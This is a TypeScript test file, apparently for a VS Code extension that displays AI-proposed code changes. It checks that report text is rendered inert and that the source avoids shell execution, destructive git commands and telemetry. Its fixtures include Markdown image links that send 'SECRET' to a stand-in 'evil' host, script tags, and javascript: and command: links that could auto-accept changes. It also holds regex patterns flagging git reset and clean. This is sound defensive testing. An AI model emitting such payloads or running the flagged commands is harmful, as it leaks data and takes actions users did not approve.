/** Catalogue F and G, how words of others are shown (research/security.md §3). */
import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { fromMarkdown } from "mdast-util-from-markdown";
import { inertMarkdown } from "../../../src/support/inertMarkdown.ts";
import { plainMarkdown } from "../../../src/support/plainMarkdown.ts";

const root = join(import.meta.dirname, "../../../src");
const sources = readdirSync(root, { recursive: true, encoding: "utf8" })
  .filter((name) => name.endsWith(".ts"))
  .map((name) => ({ name, text: readFileSync(join(root, name), "utf8") }));

test("F08 F10 nothing in a report is fetched, run or markup, however it is written", () => {
  const hostile = [
    "![x](https://evil/?d=SECRET)",
    "![x][ref]\n\n[ref]: https://evil/?d=SECRET",
    "**bold ![a![b](https://evil)](https://evil)**",
    '<img src="https://evil/?d=SECRET"><script>x</script>',
    "text <!-- c --> <b onclick=x>y</b> <https://evil/>",
    "[Accept](command:backendImplementer.acceptAll) [x](javascript:alert(1)) [y](JavaScript:x)",
    "- item\n\n  ![x](https://evil)\n\n| a |\n|---|\n| ![x](https://evil) |",
  ];
  for (const text of hostile) {
    const found: string[] = [];
    visit(fromMarkdown(inertMarkdown(text)), found);
    assert.deepEqual(found, [], text);
  }
  const plain = "## Backend proposed\n\n`a < b` and `list[str]`, 5 <= 6, [file](src/a.py#L3)\n";
  assert.equal(inertMarkdown(plain), plain);
});

function visit(node: object, found: string[]): void {
  const { type, url, children } = node as { type: string; url?: string; children?: readonly object[] };
  if (type === "image" || type === "imageReference" || type === "html") found.push(type);
  if (type === "link" && /^(command|javascript|data):/i.test(url ?? "")) found.push(url ?? "");
  for (const child of children ?? []) visit(child, found);
}

test("F08 F10 no Markdown is trusted, and what is proposed is shown as code only", () => {
  const uses = sources.flatMap(({ name, text }) =>
    [...text.matchAll(/new vscode\.MarkdownString\([^)]*\)[^;\n]*|isTrusted\s*[=:][^;\n]*|supportHtml[^;\n]*/g)].map(
      ([use]) => `${name}: ${use}`,
    ),
  );
  // What is put together there is made of plain texts (below) and links of ours to places of documents.
  const known = ["vscode/review/rationaleComments.ts: new vscode.MarkdownString(markdown),"];
  const others = uses.filter((use) => !known.includes(use));
  assert.deepEqual(
    others.filter((use) => !/new vscode\.MarkdownString\(\)\.append(Codeblock|Text)\(/.test(use)),
    [],
  );
});

test("F08 F10 a text of others in Markdown of ours is text and nothing else", () => {
  const hostile = [
    "[Accept](command:backendImplementer.acceptAll) ![x](https://evil.example/x.png) <img src=x> <https://evil.example>",
    "https://evil.example/a www.evil.example a@evil.example `code` **bold** ~~gone~~ &lt; \\[x\\](y)",
    "# Heading",
    "Heading\n===",
    "- item\n+ item\n1. item\n1) item\n> quote\n    code\n---\n~~~\n| a | b |\n| - | - |\n[x]: https://evil.example",
  ];
  for (const text of hostile) {
    const types = new Set<string>();
    const walk = ({ type, children = [] }: { type: string; children?: readonly object[] }): void => {
      types.add(type);
      for (const child of children) walk(child as typeof tree);
    };
    const tree: { type: string; children?: readonly object[] } = fromMarkdown(plainMarkdown(text));
    walk(tree);
    assert.deepEqual([...types].sort(), ["paragraph", "root", "text"], text);
    // What other dialects make links of: no address and no mail has its mark bare.
    assert.doesNotMatch(plainMarkdown(text), /[^\\]:|\w@|www\./);
  }
});

test("C20 C21 no shell text is built of names, no program of the user's repository is run, and no git of ours", () => {
  const broken = sources.filter(({ text }) =>
    /\bexecSync?\(|shell:\s*true|["'`]git["'`]\s*,|\bgit (?:reset|clean|checkout|stash|rebase)\b/.test(text),
  );
  const known = ["tools/commandPolicy.ts"];
  assert.deepEqual(
    broken.map(({ name }) => name).filter((name) => !known.includes(name)),
    [],
  );
});

test("I07 paths are taken from addresses of folders on a disk only", () => {
  const users = sources.filter(({ text }) => /\.fsPath\b/.test(text)).map(({ name }) => name);
  const manifest = JSON.parse(readFileSync(join(root, "../package.json"), "utf8"));
  assert.equal(manifest.capabilities.virtualWorkspaces.supported, false);
  assert.deepEqual(
    users.filter((name) => name !== "extension.ts" && !name.startsWith("vscode/")),
    [],
  );
});

test("G17 nothing is reported to anybody", () => {
  const telling = sources.filter(({ text }) => /telemetry|createTelemetryLogger|sendTelemetry|appInsights/i.test(text));
  assert.deepEqual(
    telling.map(({ name }) => name).filter((name) => name !== "models/anthropic.ts"),
    [],
  );
});
